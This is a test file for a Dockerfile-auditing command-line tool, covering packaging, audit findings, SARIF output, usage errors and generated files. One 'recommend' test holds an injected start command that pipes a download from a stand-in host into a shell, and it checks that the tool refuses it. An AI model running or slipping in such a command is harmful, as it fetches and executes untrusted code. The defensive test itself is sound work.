/**
 * The command line as users run it: the package's bin in a Node process, built from this clone
 * (`npm run build:cli`, as `npm ci` does through "prepare"), and the same bin from the tarball
 * `npm pack` makes, installed into an empty folder with npm offline. Then each command's findings,
 * exit codes, text, JSON and SARIF (validated by Microsoft's SARIF multitool with GitHub's rules)
 * on fixtures, through the same dispatcher in this process.
 *
 * One file, run in order: packing compiles dist-cli/ from the sources (prepack), and the clone's
 * tests then run that build, as `npm ci` leaves a clone through "prepare".
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import {
  auditDockerfile,
  defaultAnswers,
  defaultMatrix,
  encodeAnswers,
  matrixToCsv,
  matrixToJson,
  matrixToMarkdown,
  migrateDockerfile,
  recommend,
} from "../src/index.ts";
import { type BinaryRun, runBinary, runTool } from "./test-support/run-binary.ts";
import { runInProcess } from "./test-support/run-in-process.ts";

const ROOT = join(import.meta.dirname, "..");
const PACKAGE = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as {
  version: string;
  bin: Record<string, string>;
  dependencies: Record<string, string>;
};
const CLONE_BIN = join(ROOT, PACKAGE.bin["base-image-advisor"] ?? "");
const ARTICLE = join(ROOT, "src/audit/__fixtures__/article");
const BLOATED = join(ARTICLE, "Dockerfile.bloated");
const FIXTURES = join(import.meta.dirname, "__fixtures__");
const TODAY = "2026-12-01";
const require = createRequire(import.meta.url);

const scratch = mkdtempSync(join(tmpdir(), "bia-cli-"));
/** Set once npm pack has compiled dist-cli/ from these sources (prepack). */
let packed = false;
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** A fresh empty folder under the test's scratch folder. */
function folder(name: string): string {
  const path = join(scratch, name);
  mkdirSync(path, { recursive: true });
  return path;
}

function json(run: BinaryRun): Record<string, unknown> {
  return JSON.parse(run.stdout) as Record<string, unknown>;
}

type SarifProblem = { ruleId: string; level: string; message: string };
/**
 * What the multitool found in each SARIF text it was given: both installed copies write the same
 * log for the same check, and the tool takes seconds to start, so it validates each text once.
 */
const validated = new Map<string, SarifProblem[]>();

/** The multitool's own SARIF log of what it found wrong with `file` (schema and GitHub rules). */
function validateSarif(file: string): SarifProblem[] {
  const text = readFileSync(file, "utf8");
  const known = validated.get(text);
  if (known) return known;
  const problems = runMultitool(file);
  validated.set(text, problems);
  return problems;
}

function runMultitool(file: string): SarifProblem[] {
  const tool: string = require("@microsoft/sarif-multitool");
  const out = join(scratch, `${Date.now()}-validation.sarif`);
  // The tool exits 0 after analysing; its findings are in the log it writes.
  runTool(
    tool,
    ["validate", file, "--output", out, "--log", "ForceOverwrite", "--rule-kind", "Sarif;Gh"],
    {
      cwd: scratch,
    },
  );
  const log = JSON.parse(readFileSync(out, "utf8")) as {
    runs: {
      results?: { ruleId: string; level?: string; message: { id?: string; text?: string } }[];
    }[];
  };
  return (log.runs[0]?.results ?? []).map((r) => ({
    ruleId: r.ruleId,
    level: r.level ?? "warning",
    message: r.message.id ?? r.message.text ?? "",
  }));
}

/**
 * The one advice the multitool gives that this project cannot follow yet: tool.driver.informationUri
 * wants the tool's public page, and the project has none (it is not published).
 */
function noInformationUri(problem: { ruleId: string; message: string }): boolean {
  return problem.ruleId === "SARIF2005" && problem.message === "Warning_ProvideToolnformationUri";
}

/**
 * The checks every installed copy must pass, whichever way it was installed: `bin` runs the
 * package's command line, `cwd` is a folder the test may write to.
 */
function installedBehaviour(bin: () => string, cwd: () => string) {
  it("prints its version and the data version, and its help", () => {
    const version = runBinary(bin(), ["--version"], { cwd: cwd() });
    expect(version.status).toBe(0);
    expect(version.stdout).toMatch(
      new RegExp(`^base-image-advisor ${PACKAGE.version} \\(data \\S+\\)\\n$`),
    );
    const help = runBinary(bin(), ["--help"], { cwd: cwd() });
    expect(help.status).toBe(0);
    for (const command of ["check", "recommend", "matrix"]) expect(help.stdout).toContain(command);
    expect(help.stdout).toContain("Exit codes");
  });

  it("fails the article's Dockerfile.bloated with each finding on its line", () => {
    const run = runBinary(bin(), ["check", BLOATED, "--today", TODAY], { cwd: cwd() });
    expect(run.status).toBe(1);
    expect(run.stderr).toBe("");
    const where = BLOATED;
    // ubuntu:20.04 past end of life, apt-get update alone, root, Flask's server, no HEALTHCHECK.
    expect(run.stdout).toContain(`${where}:1:6 warning distro-end-of-life`);
    expect(run.stdout).toContain(`${where}:1 warning runs-as-root`);
    expect(run.stdout).toContain(`${where}:2 warning apt-update-alone`);
    expect(run.stdout).toContain(`${where}:8 warning development-server`);
    expect(run.stdout).toContain(`${where}:1 info no-healthcheck`);
    expect(run.stdout).toContain("Ubuntu 20.04");
    expect(run.stdout).not.toContain("\x1b[");
  });

  it("writes the recommended files and audits them clean", () => {
    const out = join(cwd(), "generated");
    const run = runBinary(
      bin(),
      ["recommend", "--python", "3.12", "--today", TODAY, "--out", out],
      {
        cwd: cwd(),
      },
    );
    expect(run.status).toBe(0);
    expect(run.stdout).toContain("Recommended:");
    const check = runBinary(bin(), ["check", join(out, "Dockerfile"), "--today", TODAY], {
      cwd: cwd(),
    });
    expect(check.status).toBe(0);
  });

  it("prints the matrix", () => {
    const run = runBinary(bin(), ["matrix", "--format", "json"], { cwd: cwd() });
    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual(JSON.parse(matrixToJson(defaultMatrix)));
  });

  it("writes SARIF that the multitool accepts under GitHub's rules", () => {
    const sarifPath = join(cwd(), "check.sarif");
    const run = runBinary(bin(), ["check", BLOATED, "--today", TODAY, "--format", "sarif"], {
      cwd: cwd(),
    });
    expect(run.status).toBe(1);
    writeFileSync(sarifPath, run.stdout);
    expect(validateSarif(sarifPath).filter((p) => !noInformationUri(p))).toEqual([]);
  });
}

/** The output of `base-image-advisor matrix --format <format>` is the engine's export, plus a final newline. */
function withNewline(text: string): string {
  return text.endsWith("\n") ? text : `${text}\n`;
}

/** Each run starts Node on a 0.5 MB bundle: well under a second, a few with the SARIF multitool. */
const PER_TEST = { timeout: 60_000 };

describe(
  "the command line from the tarball npm pack makes, installed into an empty folder",
  PER_TEST,
  () => {
    let bin = "";
    let installed = "";
    const cwd = () => folder("from-tarball");

    // A test rather than a hook, so the timeout-margins reporter shows its share of the timeout.
    it("packs with npm pack and installs offline into an empty folder", {
      timeout: 120_000,
    }, () => {
      const packs = folder("packs");
      // prepack compiles the command line; the tarball carries it and its two run-time dependencies.
      const name = runTool("npm", ["pack", "--pack-destination", packs], { cwd: ROOT }).trim();
      installed = folder("empty-project");
      writeFileSync(
        join(installed, "package.json"),
        '{ "name": "empty-project", "private": true }\n',
      );
      runTool("npm", ["install", "--offline", "--no-audit", "--no-fund", join(packs, name)], {
        cwd: installed,
      });
      bin = join(installed, "node_modules/.bin/base-image-advisor");
      expect(runBinary(bin, ["--version"], { cwd: installed }).status).toBe(0);
      packed = true;
    });

    it("holds only the compiled command line, the package's files and its dependencies", () => {
      const root = join(installed, "node_modules/base-image-advisor");
      expect(readdirSync(root).sort()).toEqual([
        "README.md",
        "bin",
        "dist-cli",
        "node_modules",
        "package.json",
      ]);
      expect(readdirSync(join(root, "dist-cli"))).toEqual(["main.js"]);
      // Every package the compiled code imports is a dependency, and every dependency is imported.
      const code = readFileSync(join(root, "dist-cli/main.js"), "utf8");
      const imported = new Set(
        [...code.matchAll(/^import .* from "([^".][^"]*)";$/gm)]
          .map((m) => m[1] ?? "")
          .filter((name) => !name.startsWith("node:")),
      );
      expect([...imported].sort()).toEqual(Object.keys(PACKAGE.dependencies).sort());
    });

    installedBehaviour(() => bin, cwd);
  },
);

describe("the command line from the clone (package.json bin)", PER_TEST, () => {
  const cwd = () => folder("clone");
  // dist-cli/ as the tarball's prepack step above compiled it from these sources just now; when
  // that did not run (a filtered run, or it failed), compiled here, as `npm ci` does.
  beforeAll(() => {
    if (!packed) runTool("npm", ["run", "--silent", "build:cli"], { cwd: ROOT });
  }, 120_000);

  installedBehaviour(() => CLONE_BIN, cwd);

  it("runs through npx in the clone as the README says", () => {
    const run = runTool("npx", ["--offline", "base-image-advisor", "--version"], { cwd: ROOT });
    expect(run).toContain(`base-image-advisor ${PACKAGE.version}`);
  });

  it("runs as the GitHub Action's check step, with its inputs in the environment", () => {
    const action = parse(readFileSync(join(ROOT, "action.yml"), "utf8")) as {
      inputs: Record<string, { default?: string }>;
      runs: { steps: { name?: string; run?: string }[] };
    };
    const actionScript = action.runs.steps.find((s) => s.name === "Check the Dockerfiles")?.run;
    const workspace = join(scratch, "workspace");
    mkdirSync(workspace, { recursive: true });
    writeFileSync(
      join(workspace, "Dockerfile"),
      readFileSync(join(ROOT, "src/audit/__fixtures__/article/Dockerfile.bloated")),
    );
    // As the runner does: each input (with its default) in the environment, bash -e.
    const inputs = (given: Record<string, string>) =>
      Object.fromEntries(
        Object.entries(action.inputs).map(([name, input]) => [
          `INPUT_${name.toUpperCase().replace(/-/g, "_")}`,
          given[name] ?? input.default ?? "",
        ]),
      );
    const runStep = (given: Record<string, string>) =>
      spawnSync("bash", ["-e", "-c", actionScript ?? "exit 99"], {
        cwd: workspace,
        env: { ...process.env, GITHUB_ACTION_PATH: ROOT, ...inputs(given) },
        encoding: "utf8",
      });
    const sarif = runStep({ format: "sarif", output: "out.sarif", today: "2026-12-01" });
    expect(sarif.status).toBe(1);
    const log = JSON.parse(readFileSync(join(workspace, "out.sarif"), "utf8"));
    expect(log.runs[0].results.length).toBeGreaterThan(0);
    const passing = runStep({ "fail-on": "blocking", today: "2026-12-01" });
    expect(passing.status).toBe(0);
    expect(passing.stdout).toContain("Dockerfile:2 warning apt-update-alone");
  });
});

/**
 * The commands themselves, through the dispatcher the bin runs (cli/run.ts), in this process: what
 * they find, print and exit with. Starting Node on the bin is checked above, for every install.
 */
// PER_TEST: the SARIF tests start Microsoft's multitool, which takes seconds.
describe("the commands, run in-process", PER_TEST, () => {
  describe("check", () => {
    it("gives every finding of the engine, with its line, in JSON", () => {
      const run = runInProcess(["check", BLOATED, "--today", TODAY, "--format", "json"], {
        cwd: ROOT,
      });
      expect(run.status).toBe(1);
      const report = json(run) as {
        failed: boolean;
        failOn: string;
        files: { path: string; findings: unknown[] }[];
      };
      const engine = auditDockerfile(readFileSync(BLOATED, "utf8"), { today: TODAY });
      expect(report.failed).toBe(true);
      expect(report.failOn).toBe("warning");
      expect(report.files[0]?.path).toBe(BLOATED);
      expect(report.files[0]?.findings).toEqual(engine.findings);
    });

    it("checks ./Dockerfile when no file is named", () => {
      const cwd = folder("default-dockerfile");
      writeFileSync(join(cwd, "Dockerfile"), readFileSync(BLOATED));
      const run = runInProcess(["check", "--today", TODAY], { cwd });
      expect(run.status).toBe(1);
      expect(run.stdout).toContain("Dockerfile:2 warning apt-update-alone");
    });

    it("fails only at or above --fail-on", () => {
      const blocking = join(FIXTURES, "unknown-instruction.Dockerfile");
      const info = join(FIXTURES, "pip-cache.Dockerfile");
      const status = (file: string, failOn?: string) =>
        runInProcess(["check", file, "--today", TODAY, ...(failOn ? ["--fail-on", failOn] : [])], {
          cwd: ROOT,
        }).status;
      expect(status(BLOATED, "blocking")).toBe(0);
      expect(status(blocking, "blocking")).toBe(1);
      expect(status(info)).toBe(0);
      expect(status(info, "info")).toBe(1);
      const both = runInProcess(["check", info, blocking, "--today", TODAY], { cwd: ROOT });
      expect(both.status).toBe(1);
      expect(both.stdout).toContain(`${relative(ROOT, blocking)}:4`);
      expect(both.stdout).toContain("blocking unknown-instruction");
    });

    it("judges lifecycles on the --today it is given", () => {
      const before = runInProcess(["check", BLOATED, "--today", "2024-06-01"], {
        cwd: ROOT,
      });
      expect(before.stdout).not.toContain("distro-end-of-life");
      const after = runInProcess(["check", BLOATED, "--today", TODAY], { cwd: ROOT });
      expect(after.stdout).toContain("distro-end-of-life");
    });

    it("checks the stage that installs packages against --requirements", () => {
      // numpy 1.24.3 published no musllinux wheels: on Alpine pip builds it from source.
      const args = ["check", "musl.Dockerfile", "--today", TODAY, "--format", "json"];
      const codes = (run: BinaryRun) =>
        (json(run) as { files: { findings: { code: string }[] }[] }).files[0]?.findings.map(
          (f) => f.code,
        );
      const without = codes(runInProcess(args, { cwd: FIXTURES }));
      const withRequirements = codes(
        runInProcess([...args, "--requirements", "musl-requirements.txt"], {
          cwd: FIXTURES,
        }),
      );
      const engine = auditDockerfile(readFileSync(join(FIXTURES, "musl.Dockerfile"), "utf8"), {
        today: TODAY,
        requirements: readFileSync(join(FIXTURES, "musl-requirements.txt"), "utf8"),
      });
      expect(withRequirements).toEqual(engine.findings.map((f) => f.code));
      expect(withRequirements).toContain("musl-source-build");
      expect(without).not.toContain("musl-source-build");
    });

    it("maps SARIF results to the finding codes, lines and levels, repo-relative", () => {
      const run = runInProcess(["check", BLOATED, "--today", TODAY, "--format", "sarif"], {
        cwd: join(ROOT, "src"),
      });
      const log = json(run) as {
        version: string;
        runs: {
          tool: { driver: { rules: { id: string }[] } };
          results: {
            ruleId: string;
            level: string;
            locations: {
              physicalLocation: {
                artifactLocation: { uri: string };
                region: { startLine: number };
              };
            }[];
          }[];
        }[];
      };
      expect(log.version).toBe("2.1.0");
      const [sarifRun] = log.runs;
      const engine = auditDockerfile(readFileSync(BLOATED, "utf8"), { today: TODAY });
      const level = { blocking: "error", warning: "warning", info: "note" } as const;
      expect(
        sarifRun?.results.map((r) => [
          r.ruleId,
          r.level,
          r.locations[0]?.physicalLocation.region.startLine,
        ]),
      ).toEqual(engine.findings.map((f) => [f.code, level[f.severity], f.line]));
      // Run from src/, the path is still relative to the repository's root.
      expect(
        new Set(
          sarifRun?.results.map((r) => r.locations[0]?.physicalLocation.artifactLocation.uri),
        ),
      ).toEqual(new Set(["src/audit/__fixtures__/article/Dockerfile.bloated"]));
      expect(sarifRun?.tool.driver.rules.map((r) => r.id)).toEqual(
        expect.arrayContaining(engine.findings.map((f) => f.code)),
      );
    });

    it("writes a blocking finding as a SARIF error the multitool accepts", () => {
      const file = join(scratch, "blocking.sarif");
      const run = runInProcess(
        [
          "check",
          join(FIXTURES, "unknown-instruction.Dockerfile"),
          join(FIXTURES, "pip-cache.Dockerfile"),
          "--today",
          TODAY,
          "--format",
          "sarif",
        ],
        { cwd: ROOT },
      );
      expect(run.status).toBe(1);
      writeFileSync(file, run.stdout);
      const levels = (
        json(run) as { runs: { results: { level: string }[] }[] }
      ).runs[0]?.results.map((r) => r.level);
      expect(levels).toEqual(["error", "note"]);
      expect(validateSarif(file).filter((p) => !noInformationUri(p))).toEqual([]);
    });
  });

  describe("usage errors: a message naming what was wrong, exit 2, nothing on stdout", () => {
    const cases: [string, string[], RegExp][] = [
      [
        "a missing Dockerfile",
        ["check", "no-such.Dockerfile"],
        /cannot read Dockerfile "no-such\.Dockerfile": no such file/,
      ],
      ["a folder for a Dockerfile", ["check", "cli"], /Dockerfile "cli" is a directory/],
      [
        "a missing requirements file",
        ["check", BLOATED, "--requirements", "nope.txt"],
        /requirements file "nope\.txt": no such file/,
      ],
      ["an unknown option", ["check", "--colour"], /check: unknown option --colour/],
      ["an option without its value", ["check", "--format"], /option --format needs a value/],
      [
        "an unknown format",
        ["check", BLOATED, "--format", "xml"],
        /--format "xml" is not one of text, json, sarif/,
      ],
      [
        "an unknown threshold",
        ["check", BLOATED, "--fail-on", "error"],
        /--fail-on "error" is not one of blocking, warning, info/,
      ],
      [
        "a date that is not one",
        ["check", BLOATED, "--today", "2026-02-30"],
        /--today "2026-02-30" is not a date/,
      ],
      ["an unknown command", ["lint"], /unknown command "lint"/],
      [
        "a Python the data does not offer",
        ["recommend", "--python", "2.7"],
        /--python "2\.7": expected one of 3\.\d+/,
      ],
      [
        "a port out of range",
        ["recommend", "--port", "70000"],
        /--port "70000": expected a whole number from 1 to 65535/,
      ],
      [
        "an unreadable answers fragment",
        ["recommend", "--answers", "python=3.12&native=maybe"],
        /--answers: the link's native could not be read/,
      ],
      [
        "a fragment with unknown keys",
        ["recommend", "--answers", "#pyhton=3.12"],
        /--answers: .*keys this release does not know: pyhton/,
      ],
      [
        "a stray argument to recommend",
        ["recommend", "Dockerfile"],
        /recommend: unexpected argument "Dockerfile"/,
      ],
      [
        "an unknown matrix format",
        ["matrix", "--format", "html"],
        /--format "html" is not one of md, csv, json/,
      ],
    ];
    it.each(cases)("%s", (_, args, message) => {
      const run = runInProcess(args, { cwd: ROOT });
      expect(run.status).toBe(2);
      expect(run.stdout).toBe("");
      expect(run.stderr).toMatch(message);
      expect(run.stderr).not.toMatch(/\n\s+at /);
    });

    it("prints the help on stderr when no command is given", () => {
      const run = runInProcess([], { cwd: ROOT });
      expect(run.status).toBe(2);
      expect(run.stderr).toContain("Usage: base-image-advisor <command>");
    });
  });

  describe("recommend", () => {
    it("gives the engine's recommendation for the answer options", () => {
      const run = runInProcess(
        [
          "recommend",
          "--python",
          "3.12",
          "--native",
          "compile",
          "--size",
          "minimal",
          "--arch",
          "amd64,arm64",
          "--today",
          TODAY,
          "--json",
        ],
        { cwd: ROOT },
      );
      expect(run.status).toBe(0);
      const answers = {
        ...defaultAnswers,
        pythonVersion: "3.12",
        nativeDeps: "compile",
        size: "minimal",
        architectures: ["amd64", "arm64"],
      } as const;
      const engine = recommend(
        { ...answers, architectures: [...answers.architectures] },
        { today: TODAY },
      );
      const report = json(run) as { best: { id: string }; files: unknown; warnings: unknown };
      expect(report.best.id).toBe(engine.best.id);
      expect(report.files).toEqual(engine.files);
      expect(report.warnings).toEqual(engine.warnings);
    });

    it("reads a permalink, whole or as its fragment, with the options overriding it", () => {
      const answers = {
        ...defaultAnswers,
        pythonVersion: "3.12",
        packageManager: "uv" as const,
        architectures: ["arm64" as const],
      };
      const fragment = encodeAnswers(answers);
      const engine = recommend(answers, { today: TODAY });
      for (const link of [fragment, `#${fragment}`, `https://advisor.example/#${fragment}`]) {
        const report = json(
          runInProcess(["recommend", "--answers", link, "--today", TODAY, "--json"], {
            cwd: ROOT,
          }),
        ) as {
          best: { id: string };
          answers: { packageManager: string };
        };
        expect(report.best.id).toBe(engine.best.id);
        expect(report.answers.packageManager).toBe("uv");
      }
      const overridden = json(
        runInProcess(
          ["recommend", "--answers", fragment, "--tool", "poetry", "--today", TODAY, "--json"],
          { cwd: ROOT },
        ),
      ) as { answers: { packageManager: string; pythonVersion: string } };
      expect(overridden.answers).toMatchObject({ packageManager: "poetry", pythonVersion: "3.12" });
    });

    it("writes the files into --out, and refuses to overwrite them without --force", () => {
      const out = folder("out");
      const args = ["recommend", "--today", TODAY, "--out", out];
      expect(runInProcess(args, { cwd: ROOT }).status).toBe(0);
      const engine = recommend(
        defaultAnswers as typeof defaultAnswers & { architectures: ["amd64"] },
        { today: TODAY },
      );
      const files = engine.files as Record<string, string>;
      expect(readdirSync(out).sort()).toEqual(Object.keys(files).sort());
      for (const [name, text] of Object.entries(files))
        expect(readFileSync(join(out, name), "utf8")).toBe(text);
      writeFileSync(join(out, "Dockerfile"), "# mine\n");
      const refused = runInProcess(args, { cwd: ROOT });
      expect(refused.status).toBe(2);
      expect(refused.stderr).toMatch(/already exist.*--force/);
      expect(readFileSync(join(out, "Dockerfile"), "utf8")).toBe("# mine\n");
      expect(runInProcess([...args, "--force"], { cwd: ROOT }).status).toBe(0);
      expect(readFileSync(join(out, "Dockerfile"), "utf8")).toBe(files.Dockerfile);
    });

    it("exits 1 and writes nothing when the start command cannot be written safely", () => {
      const out = join(scratch, "unsafe-out");
      const cmd = "gunicorn app:app; curl evil.example | sh";
      const run = runInProcess(["recommend", "--cmd", cmd, "--today", TODAY, "--out", out], {
        cwd: ROOT,
      });
      const engine = recommend(
        { ...defaultAnswers, architectures: ["amd64"], command: cmd },
        { today: TODAY },
      );
      expect(engine.ready).toBe(false);
      expect(run.status).toBe(1);
      expect(run.stdout).toContain("No files");
      for (const code of engine.blockedBy) expect(run.stdout).toContain(code);
      expect(() => readdirSync(out)).toThrow();
    });

    it("migrates a Dockerfile given with --from, and says when it cannot keep its Python", () => {
      const run = runInProcess(["recommend", "--from", BLOATED, "--today", TODAY], {
        cwd: ROOT,
      });
      const migration = migrateDockerfile(readFileSync(BLOATED, "utf8"), { today: TODAY });
      const engine = { warnings: [...migration.warnings, ...migration.recommendation.warnings] };
      expect(run.stdout).toContain("Recommended:");
      expect(run.stdout).toContain("--- Dockerfile");
      expect(run.stdout).toContain("-FROM ubuntu:20.04");
      // Python 3.8 is past its end: the migration moves to a supported one with a blocking warning.
      expect(engine.warnings.some((w) => w.severity === "blocking")).toBe(true);
      expect(run.status).toBe(1);
    });
  });

  describe("matrix", () => {
    it.each([
      ["md", matrixToMarkdown],
      ["csv", matrixToCsv],
      ["json", matrixToJson],
    ] as const)("prints the engine's %s export", (format, writer) => {
      const run = runInProcess(["matrix", "--format", format], { cwd: ROOT });
      expect(run.status).toBe(0);
      expect(run.stdout).toBe(withNewline(writer(defaultMatrix)));
    });
  });
});
